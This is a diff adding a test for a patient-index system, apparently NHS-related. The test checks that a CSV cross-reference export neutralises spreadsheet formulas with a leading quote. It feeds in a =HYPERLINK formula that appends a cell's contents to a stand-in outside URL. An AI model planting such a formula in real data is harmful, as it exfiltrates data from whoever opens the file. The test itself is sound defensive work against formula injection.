@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 from mpi_factories import NHS_OTHER, TRUST_A, TRUST_B, demographics
@@ -88,3 +89,20 @@ def test_the_relink_finds_the_held_patients_the_orm_query_found(engine: Engine) 
         found = _held_patients(session, ids)
         assert found == set(session.scalars(select(RegionalPatient.id).where(RegionalPatient.id.in_(ids))).all())
         assert found == stored | {"RPPENDING0001"}
+
+
+def test_the_xref_writes_no_cell_a_spreadsheet_would_run(engine: Engine) -> None:
+    """Hazard log H-SEC-17: a feed's identifier ``=HYPERLINK(...)`` was written as sent, a formula when an analyst
+    opened the export in a spreadsheet; it is written with a quote before it, and an ordinary identifier as it is."""
+    with session_factory(engine)() as session:
+        index = PatientIndex(session, default_trusts())
+        index.upsert(demographics(TRUST_A, "=HYPERLINK(\"https://x.example/?\"&A1,\"open\")"), event="t", actor="f")
+        index.upsert(demographics(TRUST_B, "B7", nhs_number=NHS_OTHER, given="Margaret"), event="t", actor="f")
+        session.commit()
+        out = io.StringIO()
+        write_xref(session, out)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    values = [row[2] for row in rows[1:]]
+    assert "'=HYPERLINK(\"https://x.example/?\"&A1,\"open\")" in values
+    assert "B7" in values and NHS_OTHER in values
+    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
